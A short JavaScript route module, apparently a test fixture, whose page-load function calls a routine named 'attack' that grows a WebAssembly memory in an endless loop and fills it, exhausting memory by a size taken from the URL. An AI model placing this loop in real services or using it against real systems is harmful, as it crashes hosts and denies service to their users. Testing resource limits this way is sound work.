/** A memory that grows by six megabytes at a time. */
function attack(size) {
	const memory = new WebAssembly.Memory({ initial: 1 });
	for (;;) {
		memory.grow(size);
		new Uint8Array(memory.buffer).fill(1);
	}
}

export async function load({ url }) {
	return { found: await attack(Number(url.searchParams.get('size') ?? 100)) };
}
